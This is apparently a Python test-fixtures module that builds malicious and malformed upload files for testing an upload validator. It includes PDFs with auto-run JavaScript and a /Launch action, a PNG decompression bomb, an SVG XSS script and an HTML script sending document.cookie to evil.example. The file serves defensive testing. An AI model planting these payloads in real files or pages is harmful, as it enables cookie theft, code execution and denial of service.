"""Test files built in memory, for any test that uploads something.

    from tests.fixtures_files import make_pdf, make_png, gif_upload, as_upload

Each ``make_*`` / ``*_bytes`` helper returns bytes; ``as_upload(data, filename, content_type)``
wraps bytes into a Werkzeug FileStorage as a form upload would arrive (for check_upload), and
for the test client post ``{"file": (io.BytesIO(data), "name.pdf", "application/pdf")}``.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from werkzeug.datastructures import FileStorage


# -- PDF -----------------------------------------------------------------------------------------
def make_pdf(pages: int = 1, text: str = "Surat keterangan domisili usaha") -> bytes:
    """A valid, plain PDF made with reportlab: ``pages`` pages of text."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    pdf = canvas.Canvas(buf, pagesize=A4)
    for n in range(pages):
        pdf.drawString(72, 770, f"{text} - {n + 1}")
        pdf.showPage()
    pdf.save()
    return buf.getvalue()


def make_big_pdf(size: int, *, chunk: int = 1 << 20):
    """A valid one-page PDF of about ``size`` bytes: the page shows one uncompressed greyscale
    image of random pixels. Yields the bytes in pieces so that a 50 MB file need not be held
    whole; ``b"".join(make_big_pdf(n))`` gives it as bytes."""
    import os as _os

    width = 1000
    height = max(1, (size - 1000) // width)
    image_len = width * height
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
    ]
    content = b"q 500 0 0 700 40 60 cm /Im1 Do Q"
    out_offset = 0
    offsets = []

    def emit(data: bytes):
        nonlocal out_offset
        out_offset += len(data)
        return data

    yield emit(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    for number, body in enumerate(objects, start=1):
        offsets.append(out_offset)
        yield emit(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets.append(out_offset)
    yield emit(b"4 0 obj\n<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream\nendobj\n")
    offsets.append(out_offset)
    yield emit(
        b"5 0 obj\n<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Length %d >>\nstream\n" % (width, height, image_len)
    )
    remaining = image_len
    while remaining:
        n = min(chunk, remaining)
        yield emit(_os.urandom(n))
        remaining -= n
    yield emit(b"\nendstream\nendobj\n")
    xref_at = out_offset
    xref = b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    yield emit(xref + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref_at)


def _writer_from(data: bytes):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(data)))
    return writer


def _written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_pdf_with_js(script: str = "app.alert('hi');", *, where: str = "openaction") -> bytes:
    """A valid PDF that runs JavaScript: from the catalogue's /OpenAction (default), from the
    document-level names tree (``where="names"``), or from a page's /AA (``where="page_aa"``)."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = _writer_from(make_pdf())
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )
    if where == "openaction":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif where == "names":
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    elif where == "page_aa":
        page = writer.pages[0]
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    else:
        raise ValueError(where)
    return _written(writer)


def make_pdf_with_launch(command: str = "calc.exe") -> bytes:
    """A valid PDF whose /OpenAction is a /Launch action."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _writer_from(make_pdf())
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject(command),
            }
        )
    )
    return _written(writer)


PAGE = "@page"  # in a make_pdf_with_action spec: a reference to the PDF's first page


def _pdf_value(writer, value):
    """A plain Python value as a pypdf object: "/Name" is a name, other str a text string,
    bytes a byte string, int a number, list an array, dict a dictionary, PAGE the first page."""
    from pypdf.generic import (
        ArrayObject,
        ByteStringObject,
        DictionaryObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    if value == PAGE:
        return writer.pages[0].indirect_reference
    if isinstance(value, dict):
        return DictionaryObject({NameObject(k): _pdf_value(writer, v) for k, v in value.items()})
    if isinstance(value, list):
        return ArrayObject([_pdf_value(writer, v) for v in value])
    if isinstance(value, bytes):
        return ByteStringObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, str) and value.startswith("/"):
        return NameObject(value)
    return TextStringObject(value)


def make_pdf_with_action(action: dict, *, where: str = "link", pages: int = 2) -> bytes:
    """A valid PDF running ``action`` (a plain dict, see _pdf_value, e.g.
    ``{"/S": "/URI", "/URI": "https://example.org/"}``) from ``where``: a link annotation's /A
    ("link"), the catalogue's /OpenAction ("open"), the document's /AA on open ("doc_aa"), the
    first page's /AA on open ("page_aa"), a link annotation's /AA ("annot_aa"), a widget
    (form button) annotation's /A ("widget") or a bookmark ("outline")."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    writer = _writer_from(make_pdf(pages=pages))
    obj = writer._add_object(_pdf_value(writer, action))
    rect = ArrayObject([FloatObject(v) for v in (50, 50, 200, 70)])
    page = writer.pages[0]

    def annotate(annot: DictionaryObject) -> None:
        annot.update({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): rect})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])

    if where == "link":
        annotate(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): obj}))
    elif where == "annot_aa":
        annotate(
            DictionaryObject(
                {
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/AA"): DictionaryObject({NameObject("/E"): obj}),
                }
            )
        )
    elif where == "widget":
        annotate(
            DictionaryObject(
                {
                    NameObject("/Subtype"): NameObject("/Widget"),
                    NameObject("/FT"): NameObject("/Btn"),
                    NameObject("/T"): TextStringObject("button"),
                    NameObject("/A"): obj,
                }
            )
        )
    elif where == "open":
        writer._root_object[NameObject("/OpenAction")] = obj
    elif where == "doc_aa":
        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): obj})
    elif where == "page_aa":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): obj})
    elif where == "outline":
        item = writer.add_outline_item(title="Bab 1", page_number=0)
        item.get_object()[NameObject("/A")] = obj
    else:
        raise ValueError(where)
    return _written(writer)


def make_encrypted_pdf(password: str = "rahasia") -> bytes:  # noqa: S107
    """A valid PDF encrypted with a user password."""
    writer = _writer_from(make_pdf())
    writer.encrypt(user_password=password, owner_password=password + "-owner")
    return _written(writer)


def make_pdf_with_embedded_file(name: str = "payload.exe", data: bytes | None = None) -> bytes:
    """A valid PDF carrying an embedded file (/EmbeddedFiles in the names tree)."""
    writer = _writer_from(make_pdf())
    writer.add_attachment(name, data if data is not None else exe_bytes())
    return _written(writer)


def make_pdf_with_file_annotation() -> bytes:
    """A valid PDF with a /FileAttachment annotation on its first page."""
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    writer = _writer_from(make_pdf())
    embedded = DecodedStreamObject()
    embedded.set_data(b"secret payload")
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("note.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
        }
    )
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)]),
            NameObject("/FS"): writer._add_object(filespec),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    return _written(writer)


def make_truncated_pdf() -> bytes:
    """The first half of a valid PDF, as an interrupted download or scan leaves it."""
    data = make_pdf(pages=3)
    return data[: len(data) // 2]


# -- images --------------------------------------------------------------------------------------
def _image(w: int, h: int, mode: str = "RGB"):
    from PIL import Image

    image = Image.new(mode, (w, h), "white" if mode != "P" else 0)
    if w > 2 and h > 2:
        image.putpixel((0, 0), (200, 30, 30) if mode == "RGB" else 1)
    return image


def make_png(w: int = 64, h: int = 48) -> bytes:
    buf = io.BytesIO()
    _image(w, h).save(buf, format="PNG")
    return buf.getvalue()


def make_jpeg(w: int = 64, h: int = 48, *, exif: bool = False, orientation: int | None = None) -> bytes:
    """A JPEG; with ``exif=True`` it carries camera make/model, a GPS position and a comment, and
    ``orientation`` sets the EXIF Orientation tag (6 = rotate 90 degrees clockwise to show)."""
    from PIL import Image

    image = _image(w, h)
    buf = io.BytesIO()
    kwargs = {}
    if exif or orientation:
        data = Image.Exif()
        if exif:
            data[0x010F] = "PhoneMaker"  # Make
            data[0x0110] = "SecretPhone 12"  # Model
            data[0x0131] = "Camera App"  # Software
            gps = {1: "S", 2: (0.0, 30.0, 0.0), 3: "E", 4: (117.0, 9.0, 0.0)}
            data[0x8825] = gps  # GPSInfo
        if orientation:
            data[0x0112] = orientation
        kwargs["exif"] = data.tobytes()
    if exif:
        kwargs["comment"] = b"taken at home"
    image.save(buf, format="JPEG", quality=85, **kwargs)
    return buf.getvalue()


def make_gif(w: int = 16, h: int = 16) -> bytes:
    buf = io.BytesIO()
    _image(w, h).convert("P").save(buf, format="GIF")
    return buf.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb_bytes(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG whose IHDR (with a correct CRC) claims ``width`` x ``height`` pixels, followed by a
    tiny IDAT and IEND. Decoding it fully would need gigabytes; it must be refused unread."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    idat = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_deep_bytes(width: int, height: int, *, bit_depth: int = 16, color_type: int = 6) -> bytes:
    """A complete, valid PNG of ``width`` x ``height`` black pixels at ``bit_depth`` bits per
    sample (colour type 6 RGBA, 2 RGB, 4 grey+alpha, 0 grey). All zeros compress to almost
    nothing: 6300 x 6300 16-bit RGBA is about 300 KB on disk and 317 MB decoded."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = b"\x00" * (1 + width * channels * bit_depth // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


# -- things that are not documents ---------------------------------------------------------------
def html_bytes() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head>"
        b"<body><script>document.location='https://evil.example/?c='+document.cookie</script>"
        b"</body></html>\n"
    )


def svg_bytes() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n'
    )


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ktp.pdf", make_pdf())
        archive.writestr("readme.txt", "scan KTP")
    return buf.getvalue()


def exe_bytes() -> bytes:
    """The start of a Windows PE executable: MZ header, DOS stub, PE signature."""
    header = bytearray(128)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    header[0x40 : 0x40 + len(stub)] = stub
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(256)


def mp4_bytes() -> bytes:
    """An MP4 start: an ftyp box (brand isom) and an empty mdat box."""
    ftyp = b"isom" + struct.pack(">I", 0x200) + b"isomiso2avc1mp41"
    return struct.pack(">I", 8 + len(ftyp)) + b"ftyp" + ftyp + struct.pack(">I", 8) + b"mdat"


def webm_bytes() -> bytes:
    """A WebM start: an EBML header whose DocType is "webm", then an empty Segment."""

    def element(ident: bytes, payload: bytes) -> bytes:
        return ident + bytes([0x80 | len(payload)]) + payload

    header = (
        element(b"\x42\x86", b"\x01")
        + element(b"\x42\xf7", b"\x01")
        + element(b"\x42\xf2", b"\x04")
        + element(b"\x42\xf3", b"\x08")
        + element(b"\x42\x82", b"webm")
        + element(b"\x42\x87", b"\x04")
        + element(b"\x42\x85", b"\x02")
    )
    return (
        b"\x1a\x45\xdf\xa3"
        + bytes([0x80 | len(header)])
        + header
        + b"\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x00"
    )


def vtt_bytes(bom: bool = False) -> bytes:
    text = "WEBVTT\n\n00:00.000 --> 00:02.000\nSelamat datang di SatuPintu\n"
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")


# -- wrapping ------------------------------------------------------------------------------------
def as_upload(
    data: bytes,
    filename: str = "document.pdf",
    content_type: str = "application/octet-stream",
    name: str = "file",
) -> FileStorage:
    """Bytes as the FileStorage a multipart form would give the view."""
    return FileStorage(stream=io.BytesIO(data), filename=filename, name=name, content_type=content_type)
